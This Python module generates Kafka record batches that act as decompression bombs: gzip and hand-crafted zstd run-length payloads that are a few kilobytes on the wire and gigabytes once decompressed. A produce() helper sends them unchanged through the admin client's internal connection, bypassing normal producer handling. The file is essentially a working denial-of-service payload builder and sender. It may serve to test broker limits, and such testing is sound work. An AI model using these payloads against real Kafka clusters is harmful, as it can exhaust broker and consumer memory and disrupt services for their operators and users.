"""Record batches that are small on the wire and huge when decompressed, and a way to send them unchanged.

Source: "Record Batch" in Kafka's documentation of its message format (kafka.apache.org/documentation/#messageformat).
"""

import struct
import time
import zlib
from collections.abc import Iterator, Sequence
from contextlib import closing
from functools import cache
from typing import Any

import crc32c
from kafka.admin import KafkaAdminClient
from kafka.protocol.producer import ProduceRequest

GZIP, ZSTD = 1, 4
BLOCK = bytes(1 << 20)
ZSTD_HEAD = b"\x28\xb5\x2f\xfd\x00\x38"  # of a frame without size and checksum, with a window of 128 KiB
ZSTD_RAW, ZSTD_RUN = 0, 1  # block types
RUN_BYTES = 128 * 1024  # maximum size that a block of 4 bytes decompresses to


def varint(number: int) -> bytes:
    """A signed integer in the encoding of Kafka's records: zigzag, seven bits per byte."""
    number = (number << 1) ^ (number >> 63)
    out = bytearray()
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*out, number])


@cache
def gzip_bomb(value_bytes: int, headers: int = 0) -> bytes:
    """A batch of one record with a value of zeros and headers named `a` without a value, compressed in pieces."""
    head = bytes(1) + varint(0) + varint(0) + varint(-1) + varint(value_bytes)
    header = varint(1) + b"a" + varint(-1)
    tail = varint(headers)
    size = len(head) + value_bytes + len(tail) + headers * len(header)
    compressor = zlib.compressobj(9, wbits=31)

    def pieces() -> Iterator[bytes]:
        yield varint(size) + head
        for start in range(0, value_bytes, len(BLOCK)):
            yield BLOCK[: value_bytes - start]
        yield tail
        for start in range(0, headers, 100_000):
            yield header * min(100_000, headers - start)

    return batch_of(b"".join(compressor.compress(piece) for piece in pieces()) + compressor.flush(), GZIP)


@cache
def zstd_bomb(value_bytes: int, count: int = 1) -> bytes:
    """A batch of records with values of zeros, written directly as run-length blocks: 33 KB per gigabyte.

    Source: RFC 8878, "Zstandard Frames".
    """
    whole, rest = divmod(value_bytes, RUN_BYTES)
    value = _zstd_block(ZSTD_RUN, RUN_BYTES, bytes(1)) * whole + _zstd_block(ZSTD_RUN, rest, bytes(1))
    compressed = bytearray(ZSTD_HEAD)
    for offset in range(count):
        head = bytes(1) + varint(0) + varint(offset) + varint(-1) + varint(value_bytes)
        head = varint(len(head) + value_bytes + 1) + head
        compressed += _zstd_block(ZSTD_RAW, len(head), head) + value + _zstd_block(ZSTD_RAW, 1, varint(0))
    return batch_of(bytes(compressed) + _zstd_block(ZSTD_RAW, 0, b"", last=True), ZSTD, count)


def _zstd_block(kind: int, size: int, content: bytes, *, last: bool = False) -> bytes:
    return (size << 3 | kind << 1 | last).to_bytes(3, "little") + content


def record(
    offset: int, key: bytes | None, value: bytes | None, headers: Sequence[tuple[str, bytes | None]] = ()
) -> bytes:
    """A record in the encoding of a batch."""
    body = bytes(1) + varint(0) + varint(offset) + _nullable(key) + _nullable(value) + varint(len(headers))
    body += b"".join(_nullable(name.encode()) + _nullable(content) for name, content in headers)
    return varint(len(body)) + body


def _nullable(content: bytes | None) -> bytes:
    return varint(-1) if content is None else varint(len(content)) + content


def batch_of(records: bytes, codec: int = 0, count: int = 1) -> bytes:
    """A batch of records that are already compressed."""
    now_ms = int(time.time() * 1000)  # Kafka deletes records with old timestamps
    # attributes, last offset delta, first and last timestamp, no producer, number of records
    body = struct.pack(">hiqqqhii", codec, count - 1, now_ms, now_ms, -1, -1, -1, count) + records
    return struct.pack(">qiibI", 0, len(body) + 9, -1, 2, crc32c.crc32c(body)) + body


def produce(servers: str, topic: str, partition: int, batch: bytes) -> tuple[int, int]:
    """Send a batch unchanged; returns the broker's error code (0: none) and the offset."""
    topics = ProduceRequest.TopicProduceData
    part = topics.PartitionProduceData(index=partition, records=batch)
    request = ProduceRequest(
        transactional_id=None, acks=-1, timeout_ms=30_000,
        topic_data=[topics(name=topic, partition_data=[part])], min_version=3, max_version=9,
    )  # fmt: skip
    with closing(KafkaAdminClient(bootstrap_servers=servers, request_timeout_ms=60_000)) as admin:
        admin.describe_topics([topic])
        manager: Any = admin._manager
        (node,) = [one["broker_id"] for one in admin.describe_cluster()["brokers"]]
        response = manager.run(manager.send, request, node)
        (answer,) = response.responses[0].partition_responses
        return int(answer.error_code), int(answer.base_offset)
